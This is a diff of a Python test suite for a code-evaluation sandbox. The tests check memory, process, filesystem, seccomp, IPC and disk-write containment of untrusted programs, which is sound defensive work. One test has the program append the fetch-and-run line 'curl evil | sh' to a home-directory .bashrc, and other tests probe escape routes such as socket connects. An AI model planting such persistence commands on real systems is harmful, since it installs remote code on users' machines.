@@ -13,8 +13,11 @@ import subprocess
 import sys
 from pathlib import Path
 
+import pytest
+
 from babeltower.evaluate.sandbox import Limits, new_sandbox_dir, run_sandboxed
-from sandbox_fixtures import loopback_listener, world_writable_dirs
+from sandbox_fixtures import (ESCAPE_EXPECTED, escape_probe, loopback_listener, unix_listener,
+                              world_writable_dirs)
 
 PY = "/usr/bin/python3" if Path("/usr/bin/python3").exists() else sys.executable
 FAST = Limits(timeout=2.0, memory_bytes=512 << 20, max_processes=32, max_output_bytes=4096)
@@ -104,27 +107,39 @@ def test_fork_bomb_is_contained():
     host_still_works()
 
 
-def test_huge_allocation_reports_memory():
-    r = py("x = bytearray(10 * 1024**3)\nprint(len(x))")
+def test_growing_memory_reports_memory_and_a_huge_request_is_refused():
+    r = py("b = []\nwhile True: b.append(bytearray(1 << 20))")
     assert r.status == "memory", (r.status, r.stderr[-300:])
+    # a single 10 GB request: refused by RLIMIT_DATA/AS (not root) or more than the
+    # cgroup allows (root) - either way the host keeps its memory
+    r = py("x = bytearray(10 * 1024**3)\nprint(len(x))")
+    assert r.status in ("memory", "fail") and "10737418240" not in r.stdout, r
     host_still_works()
 
 
-def test_memory_cgroup_kill_reports_memory_without_rlimit_as():
+def test_memory_limit_holds_without_rlimit_as():
+    """What the JVM, node and Go get (no RLIMIT_AS): the memory cgroup (root) or
+    RLIMIT_DATA (not root) still stops a program that touches its pages."""
     lim = Limits(timeout=10, memory_bytes=256 << 20, address_space=False, max_processes=32)
-    if not ROOT:  # no cgroup without root: the result must say memory is not limited
-        r = py("print(1)", limits=lim)
-        assert r.isolation["memory"] == "not limited"
-        return
-    # touch pages so the cgroup, not the address-space limit, has to stop it
     r = py("b = []\nwhile True: b.append(bytearray(16 << 20))", limits=lim)
     assert r.status == "memory", (r.status, r.signal, r.stderr[-300:])
-    assert r.isolation["memory"].startswith("memory cgroup")
+    assert r.isolation["memory"] == ("memory cgroup" if ROOT else "RLIMIT_DATA")
+
+
+@pytest.mark.parametrize("text", ["MemoryError", "std::bad_alloc",
+                                  "No space left on device", "File too large"])
+def test_the_programs_own_text_does_not_set_the_status(text):
+    r = py(f"import sys\nprint({text!r}, file=sys.stderr)\nsys.exit(1)")
+    assert r.status == "fail" and text in r.stderr
+    r = py(f"import sys\nprint({text!r}, file=sys.stderr)")
+    assert r.status == "pass"
 
 
 def test_write_outside_its_directory_is_refused(tmp_path):
-    targets = ["/etc/babeltower-pwned", "/usr/local/babeltower-pwned", str(tmp_path / "out")]
-    if ROOT:
+    # the test's own directories are writable by the caller (the same uid, not root)
+    targets = ["/etc/babeltower-pwned", "/usr/local/babeltower-pwned", str(tmp_path / "out"),
+               str(Path.cwd() / "babeltower-pwned"), str(Path(__file__).parent / "pwned")]
+    if Path.home().is_dir():
         targets.append(str(Path.home() / "babeltower-pwned"))
     for target in targets:
         r = py(f"open({target!r}, 'w').write('pwned')")
@@ -141,6 +156,34 @@ def test_write_outside_its_directory_is_refused(tmp_path):
                                          else "private /tmp, same uid")
     assert r.isolation["host_filesystem"] == "read-only"
     assert not Path("/tmp/bt-sandbox-leak").exists()
+
+
+def test_the_callers_own_home_is_read_only_inside():
+    """Issue 21: a fork-server program appended to ~/.bashrc. A home directory the caller
+    can write (not under /tmp, which the private /tmp hides: .ci/run gives its unprivileged
+    user one under /run) is read-only inside, through both runners (as root the sandbox's
+    own uid cannot enter root's home at all)."""
+    home = Path.home()
+    assert home.is_dir() and os.access(home, os.W_OK), home  # else the test proves nothing
+    assert not str(home.resolve()).startswith(("/tmp/", "/var/tmp/", "/dev/shm/"))
+    rc = home / f".bashrc-bt-{secrets.token_hex(4)}"
+    rc.write_text("# mine\n")
+    try:
+        src = (f"import os\nprint(os.path.exists({str(rc)!r}))\n"
+               f"open({str(rc)!r}, 'a').write('curl evil | sh\\n')\n")
+        for fork_server in (False, True):
+            from babeltower.evaluate.execute import run_program
+
+            r = run_program("python", src, timeout=10, python_fork_server=fork_server)
+            assert r.status == "fail", r
+            if ROOT:  # root's home (0700) is not even visible to the sandbox's own uid
+                assert "Permission denied" in r.stderr or "Read-only" in r.stderr, r.stderr
+            else:     # the same uid: visible, and the mount is read-only
+                assert "Read-only file system" in r.stderr, r.stderr
+                assert r.stdout.strip() == "True"
+        assert rc.read_text() == "# mine\n"
+    finally:
+        rc.unlink()
 
 
 def test_every_world_writable_host_dir_is_read_only_inside():
@@ -282,3 +325,139 @@ def test_signal_death_is_a_crash():
 def test_missing_executable_is_missing_toolchain():
     r = run_sandboxed(["/nonexistent/babel-compiler", "x"], limits=FAST)
     assert r.status == "missing_toolchain"
+
+
+# --- issue 21: what a contained process can no longer do ---------------------------------
+def test_no_capabilities_no_new_privs_and_the_syscall_filter(tmp_path):
+    """mount (the remount that made the host writable), umount, unshare, setns, ptrace,
+    io_uring, TIOCSTI, unix sockets ...: each refused; no capability left, in any set.
+    A 0666 unix listener in the test's /tmp and one in the program's own directory (the
+    same uid when not root) receive nothing."""
+    wd = new_sandbox_dir()
+    inside = str(wd / "own.sock")
+    hidden = str(tmp_path / "host.sock")   # under the host /tmp: hidden by the private /tmp
+    with unix_listener(inside) as got_inside, unix_listener(hidden) as got_hidden:
+        r = run_sandboxed([PY, "-c", escape_probe([inside, hidden])], workdir=wd,
+                          limits=dataclasses.replace(FAST, timeout=10.0))
+        assert got_inside() == [] and got_hidden() == []
+    assert r.status == "pass", r.stderr[-500:]
+    seen = json.loads(r.stdout)
+    for name, want in ESCAPE_EXPECTED.items():
+        assert seen[name] == want, (name, seen[name])
+    assert seen[f"connect {inside}"] == "EPERM"     # no unix socket can be made at all
+    assert seen[f"connect {hidden}"] == "EPERM"
+    assert r.isolation["capabilities"] == "none"
+    assert r.isolation["syscall_filter"] == "seccomp + no_new_privs"
+
+
+def test_every_filter_rule_resolves_on_this_architecture():
+    """libseccomp knows every system call the filter names (a rule for a call it does not
+    know would be skipped), and the filter is built."""
+    import ctypes
+
+    from babeltower.evaluate import fences
+
+    lib = ctypes.CDLL(ctypes.util.find_library("seccomp") or "libseccomp.so.2")
+    lib.seccomp_syscall_resolve_name.argtypes = [ctypes.c_char_p]
+    unknown = [name for name, *_ in fences.SECCOMP_RULES
+               if lib.seccomp_syscall_resolve_name(name.encode()) < 0]
+    assert unknown == []
+    assert fences.seccomp_unavailable() == ""
+    assert len(fences.build_seccomp_program()) % 8 == 0
+
+
+def test_ipc_objects_do_not_outlive_the_run():
+    """SysV shared memory (0666, a fixed key) and a POSIX message queue made by one run:
+    the host never sees them, the next run cannot find them, nothing stays pinned."""
+    key = 0x42420000 + secrets.randbelow(0xFFFF)
+    make = (f"import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
+            f"shm = libc.shmget({key}, 64 << 20, 0o1666)\n"
+            "addr = libc.shmat(shm, None, 0)\n"
+            "mq = libc.mq_open(b'/bt-mq', os.O_CREAT | os.O_RDWR, 0o666, None)\n"
+            "print(shm >= 0, mq >= 0)\n")
+    r = py(make)
+    assert r.status == "pass" and r.stdout.split() == ["True", "True"], r
+    assert r.isolation["namespaces"].endswith("IPC, PID")
+    host = Path("/proc/sysvipc/shm").read_text().split()
+    assert str(key) not in host
+    assert not Path("/dev/mqueue/bt-mq").exists()
+    find = (f"import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
+            f"print(libc.shmget({key}, 0, 0), ctypes.get_errno())\n")
+    r = py(find)
+    assert r.stdout.split() == ["-1", str(errno.ENOENT)], r
+
+
+def test_proc_lists_only_the_programs_own_processes():
+    r = py("import os\nprint(os.getpid(), sorted(int(p) for p in os.listdir('/proc') "
+           "if p.isdigit()))")
+    assert r.status == "pass", r.stderr
+    pid, pids = r.stdout.split(" ", 1)
+    assert pid == "2" and json.loads(pids) == [1, 2]   # its init and itself
+    assert r.isolation["proc"] == "own (PID namespace)"
+
+
+WITHOUT_USER_NAMESPACES = r'''
+import errno, os, sys
+from babeltower.evaluate import fences
+# a host where namespaces cannot be made (a hardened kernel, a container's seccomp
+# profile): unshare and clone with a namespace flag fail with EPERM in this process tree
+rules = [("unshare", errno.EPERM, [], ""), ("clone3", errno.ENOSYS, [], "")]
+rules += [("clone", errno.EPERM, [(0, f, f)], "") for f in (0x10000000, 0x40000000, 0x20000)]
+assert fences.seccomp_installer(fences.build_seccomp_program(rules))()
+os.execv(sys.executable, [sys.executable, *sys.argv[1:]])
+'''
+
+RUN_ONE = r'''
+import sys
+from babeltower.errors import BabelError
+from babeltower.evaluate.sandbox import isolation_line, run_sandboxed
+try:
+    r = run_sandboxed([PYTHON, "-c", "open(MARK, 'w').write('ran')"],
+                      unsafe=UNSAFE, limits=None)
+except BabelError as e:
+    print(e); sys.exit(2)
+print(r.status, isolation_line(r.isolation))
+'''
+
+
+def test_without_user_namespaces_the_run_refuses_in_one_line():
+    # in the host's /tmp: the sandbox uid (root) or the caller can write there when no
+    # mount namespace hides it - which is what the unsafe run below does
+    mark = Path(f"/tmp/bt-refusal-{secrets.token_hex(6)}")
+    env = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}
+
+    def attempt(unsafe: bool):
+        code = (RUN_ONE.replace("MARK", repr(str(mark))).replace("UNSAFE", str(unsafe))
+                .replace("PYTHON", repr(PY)))
+        return subprocess.run([sys.executable, "-c", WITHOUT_USER_NAMESPACES, "-c", code],
+                              capture_output=True, text=True, timeout=60, env=env)
+
+    out = attempt(unsafe=False)
+    assert out.returncode == 2, out
+    lines = out.stdout.strip().splitlines()
+    assert len(lines) == 1 and lines[0].startswith("sandbox: cannot isolate programs here"), out
+    assert "unshare(" in lines[0] and "EPERM" in lines[0] and "--unsafe-no-sandbox" in lines[0]
+    assert not mark.exists()    # no program ran
+    # asked for explicitly: it runs (the host /tmp is not private then), and says so
+    out = attempt(unsafe=True)
+    assert out.returncode == 0, out
+    assert "UNSAFE" in out.stdout and "namespaces none" in out.stdout, out.stdout
+    try:
+        assert out.stdout.startswith("pass ") and mark.read_text() == "ran"
+    finally:
+        mark.unlink(missing_ok=True)
+
+
+def test_a_compilers_writes_to_its_directory_are_capped_in_total():
+    """A compiler's directory is writable (the binary must survive the compile step):
+    many files, each under RLIMIT_FSIZE, are stopped by the watch on the directory's total
+    (checked every 0.1 s: what it holds stays within the cap plus 0.1 s of writing)."""
+    wd = new_sandbox_dir()
+    lim = Limits(timeout=20, memory_bytes=512 << 20, write_bytes=32 << 20)
+    src = ("import os, time\nfor i in range(1000):\n"
+           "    open(f'part{i}', 'wb').write(b'x' * (2 << 20))\n    time.sleep(0.01)\n")
+    r = run_sandboxed([PY, "-c", src], workdir=wd, limits=lim, writable_workdir=True)
+    assert r.status == "disk", (r.status, r.stderr[-300:])
+    held = sum(f.stat().st_size for f in wd.iterdir())
+    assert 32 << 20 <= held < 96 << 20, held
+    assert "in total" in r.isolation["writes"]
